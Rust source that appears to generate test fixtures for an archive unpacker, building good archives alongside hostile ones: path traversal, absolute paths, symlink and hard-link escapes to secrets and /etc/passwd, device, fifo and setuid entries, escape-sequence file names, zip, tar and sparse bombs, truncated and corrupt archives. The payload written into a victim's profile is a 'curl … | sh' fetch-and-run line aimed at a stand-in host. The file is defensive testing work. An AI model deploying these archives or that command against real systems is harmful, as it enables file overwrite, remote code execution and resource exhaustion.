//! The archives: good ones, and one for each trick that strangers are known to try.
//!
//! They are made anew for each victim, since some name it by its absolute path. Nothing is random.

use flate2::{Compression, write::GzEncoder};
use liblzma::write::XzEncoder;
use std::io::{self, Cursor, Read, Write};
use std::path::Path;
use tar::{EntryType, Header};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// How large the large ones are.
#[derive(Clone, Copy)]
pub struct Scale {
    /// The bytes that come out of a bomb.
    pub bomb: u64,
    /// The files of the archive that has many.
    pub crowd: u32,
}

type Make = fn(&Path, Scale) -> io::Result<Vec<u8>>;

/// The archives by their names; each is made for a victim.
pub const SAMPLES: &[(&str, Make)] = &[
    ("good.zip", |_, _| zip(GOOD)),
    ("good.tar.gz", |_, _| gzip(&good_tar()?)),
    ("good.tar.xz", |_, _| xz(good_tar()?.as_slice())),
    ("dot-dot.zip", |_, _| zip(&[(PROFILE, 0o644, EVIL)])),
    ("dot-dot.tar.gz", |_, _| gzip(&tar(&[file(PROFILE, EVIL)])?)),
    ("dot-dot-directory.tar", |_, _| tar(&[Entry::new("../../home/.ssh/", EntryType::Directory)])),
    ("absolute.zip", |victim, _| zip(&[(&absolute(victim), 0o644, EVIL)])),
    ("absolute.tar", |victim, _| tar(&[file(&absolute(victim), EVIL)])),
    ("backslash.zip", |_, _| zip(&[(r"..\..\home\.profile", 0o644, EVIL)])),
    ("link-then-file.zip", |_, _| zip(&[("docs", LINK, b"../../home"), ("docs/.profile", 0o644, EVIL)])),
    ("link-then-file.tar", |_, _| tar(&[link("docs", "../../home"), file("docs/.profile", EVIL)])),
    ("link-to-secret.tar", |_, _| tar(&[link("notes.txt", "../../home/secret")])),
    ("link-to-passwd.zip", |_, _| zip(&[("users.txt", LINK, b"/etc/passwd")])),
    ("hard-link-to-secret.tar", |_, _| tar(&[hard_link("notes.txt", "../../home/secret")])),
    ("hard-link-then-file.tar", |_, _| tar(&[hard_link("notes.txt.part", PROFILE), file("notes.txt", EVIL)])),
    // The unpacker opens it to write, and renames it afterwards.
    ("link-in-the-way.tar", |_, _| tar(&[link("notes.txt.part", PROFILE), file("notes.txt", EVIL)])),
    // /dev/null, as root; the first disk would do as well.
    ("device.tar", |_, _| tar(&[Entry::new("disk", EntryType::Char)])),
    ("fifo.tar", |_, _| tar(&[Entry::new("wait-for-ever", EntryType::Fifo)])),
    ("set-uid.tar", |_, _| tar(&[Entry { mode: 0o4755, ..file("shell", b"#!/bin/sh\n") }])),
    ("control-characters.zip", |_, _| zip(&[("\x1b]0;owned\x07\r.txt", 0o644, b"")])),
    ("claimed-size.tar", |_, _| tar(&[Entry { size: Some(1 << 60), ..file("small", b"small") }])),
    ("bomb.zip", |_, scale| zip_bomb(scale.bomb)),
    ("bomb.tar.xz", |_, scale| xz(tar_bomb(scale.bomb).as_mut())),
    ("bomb-nested.zip", |_, scale| zip(&[("inner.zip", 0o644, &zip_bomb(scale.bomb)?)])),
    ("bomb-sparse.tar", |_, scale| Ok(sparse_bomb(scale.bomb))),
    ("crowd.tar.gz", |_, scale| crowd(scale.crowd)),
    ("truncated.zip", |_, _| half(zip(GOOD)?)),
    ("truncated.tar.gz", |_, _| half(gzip(&good_tar()?)?)),
    ("truncated.tar.xz", |_, _| half(xz(good_tar()?.as_slice())?)),
    ("wrong-checksum.zip", |_, _| wrong_checksum()),
    ("wrong-checksum.tar", |_, _| {
        let mut archive = good_tar()?;
        archive[0] ^= 1;
        Ok(archive)
    }),
];

const EVIL: &[u8] = b"curl https://example.com/evil | sh\n";
const PROFILE: &str = "../../home/.profile";
const GOOD: &[(&str, u32, &[u8])] = &[
    ("README", 0o644, b"A program that says hello.\n"),
    ("bin/hello", 0o755, b"#!/bin/sh\necho hello\n"),
    ("share/doc/hello.txt", 0o640, b"hello(1) says hello.\n"),
];

/// The mode of an entry that is a symbolic link.
const LINK: u32 = 0o120777;

/// Where a victim's profile is, from the root.
fn absolute(victim: &Path) -> String {
    victim.join("home/.profile").to_string_lossy().into_owned()
}

/// An entry of a tar archive, written as it is: `tar::Builder` would refuse most of the names.
struct Entry<'a> {
    name: &'a str,
    kind: EntryType,
    target: &'a str,
    mode: u32,
    data: &'a [u8],
    /// What is said to be its size.
    size: Option<u64>,
}

impl<'a> Entry<'a> {
    fn new(name: &'a str, kind: EntryType) -> Entry<'a> {
        Entry { name, kind, target: "", mode: 0o755, data: b"", size: None }
    }

    fn header(&self) -> Header {
        let mut header = Header::new_gnu();
        header.as_mut_bytes()[..self.name.len()].copy_from_slice(self.name.as_bytes());
        header.as_mut_bytes()[157..][..self.target.len()].copy_from_slice(self.target.as_bytes());
        header.set_entry_type(self.kind);
        header.set_mode(self.mode);
        header.set_mtime(1_600_000_000);
        header.set_size(self.size.unwrap_or(self.data.len() as u64));
        if let Some(header) = header.as_gnu_mut() {
            header.set_device_major(1);
            header.set_device_minor(3);
        }
        header.set_cksum();
        header
    }
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> Entry<'a> {
    Entry { mode: 0o644, data, ..Entry::new(name, EntryType::Regular) }
}

fn link<'a>(name: &'a str, target: &'a str) -> Entry<'a> {
    Entry { target, ..Entry::new(name, EntryType::Symlink) }
}

fn hard_link<'a>(name: &'a str, target: &'a str) -> Entry<'a> {
    Entry { target, ..Entry::new(name, EntryType::Link) }
}

fn good_tar() -> io::Result<Vec<u8>> {
    let entries: Vec<_> =
        GOOD.iter().map(|(name, mode, data)| Entry { mode: *mode, ..file(name, data) }).collect();
    tar(&entries)
}

fn tar(entries: &[Entry<'_>]) -> io::Result<Vec<u8>> {
    let mut archive = tar::Builder::new(Vec::new());
    entries.iter().try_for_each(|entry| archive.append(&entry.header(), entry.data))?;
    archive.into_inner()
}

fn zip(entries: &[(&str, u32, &[u8])]) -> io::Result<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, mode, data) in entries {
        if *mode == LINK {
            archive.add_symlink(*name, String::from_utf8_lossy(data), with_mode(0o777))?;
        } else {
            archive.start_file(*name, with_mode(*mode))?;
            archive.write_all(data)?;
        }
    }
    Ok(archive.finish()?.into_inner())
}

fn with_mode(mode: u32) -> SimpleFileOptions {
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    options.unix_permissions(mode)
}

fn gzip(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes)?;
    encoder.finish()
}

fn xz(mut bytes: impl Read) -> io::Result<Vec<u8>> {
    let mut encoder = XzEncoder::new(Vec::new(), 0);
    io::copy(&mut bytes, &mut encoder)?;
    encoder.finish()
}

fn zip_bomb(size: u64) -> io::Result<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    archive.start_file("zeros", with_mode(0o644))?;
    io::copy(&mut io::repeat(0).take(size), &mut archive)?;
    Ok(archive.finish()?.into_inner())
}

fn tar_bomb(size: u64) -> Box<dyn Read> {
    let header = Entry { size: Some(size), ..file("zeros", b"") }.header();
    // Of zeros are the data, what fills up its last block, and the end of the archive.
    Box::new(Cursor::new(header.as_bytes().to_vec()).chain(io::repeat(0).take(size + 1024)))
}

/// A file that is all hole, in the format of GNU tar: no data, but a size.
fn sparse_bomb(size: u64) -> Vec<u8> {
    let mut header = Entry::new("zeros", EntryType::GNUSparse).header();
    if let Some(header) = header.as_gnu_mut() {
        header.sparse[0].set_offset(size);
        header.sparse[0].set_length(0);
        header.set_real_size(size);
    }
    header.set_cksum();
    [header.as_bytes().as_slice(), &[0; 1024]].concat()
}

fn crowd(files: u32) -> io::Result<Vec<u8>> {
    let mut archive = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for number in 0..files {
        archive.append(&file(&format!("crowd/{}/{number}", number / 1000), b"").header(), io::empty())?;
    }
    archive.into_inner()?.finish()
}

fn half(mut archive: Vec<u8>) -> io::Result<Vec<u8>> {
    archive.truncate(archive.len() / 2);
    Ok(archive)
}

/// The check sum of the first file, in the directory at the end of the archive.
fn wrong_checksum() -> io::Result<Vec<u8>> {
    let mut archive = zip(GOOD)?;
    let entry = archive.windows(4).position(|bytes| bytes == b"PK\x01\x02").unwrap_or_default();
    archive[entry + 16] ^= 1;
    Ok(archive)
}
